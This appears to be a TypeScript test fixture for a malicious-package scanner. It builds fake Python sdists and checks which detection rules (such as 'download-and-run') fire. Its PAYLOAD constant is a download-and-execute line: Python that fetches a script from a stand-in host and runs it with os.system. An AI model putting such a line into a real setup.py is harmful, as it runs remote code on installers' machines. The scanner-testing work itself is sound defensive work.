/** The one inert payload of the evasion tests, its harmless twin, and what the engine says of an archive. */
import { examine } from '../../src/engine/examine.ts';
import { Budget, DEFAULT_LIMITS } from '../../src/kit/budget.ts';
import type { Report } from '../../src/model/report.ts';
import { forgeSdist, type Files } from '../forge/forge.ts';

/** Fetches and runs; the host never resolves (RFC 2606). */
export const PAYLOAD = "import urllib.request,os\nopen('/tmp/x.sh','wb').write(urllib.request.urlopen('http://host.invalid/x').read())\nos.system('sh /tmp/x.sh')\n";
export const HARMLESS = "print('made by the build')\n";

export const SETUP = "from setuptools import setup\nsetup(name='demo', version='1.0', packages=['demo'])\n";
export const PACKAGE: Files = { 'demo/__init__.py': "VERSION = '1.0'\n" };

const LIMITS = { ...DEFAULT_LIMITS, milliseconds: 20_000 };

/** Scans an archive with the real engine. */
export function scan(bytes: Uint8Array, name = 'demo-1.0.tar.gz'): Report {
  return examine({ target: name, name, bytes }, { budget: new Budget(LIMITS) });
}

/** An sdist whose setup.py is given, beside other files. */
export function sdist(setup: string | Uint8Array, files: Files = {}): Uint8Array {
  return forgeSdist('demo', '1.0', { 'setup.py': setup, ...PACKAGE, ...files });
}

/** Rules that saw the payload for what it is. */
export function seen(report: Report): string[] {
  return [...new Set(report.findings.filter(({ rule }) => TELLING.has(rule)).map(({ rule, stage }) => `${rule} ${stage}`))];
}

const TELLING: ReadonlySet<string> = new Set(['download-and-run', 'remote-code-evaluated', 'system-tool-fetches', 'drops-and-runs']);

/** What a failing test should tell. */
export function told(report: Report): string {
  return JSON.stringify({ verdict: report.verdict, score: report.score, findings: report.findings.map(({ rule, stage, message }) => `${rule} ${stage} ${message}`), unread: report.coverage.unread.slice(0, 5) }, null, 1);
}
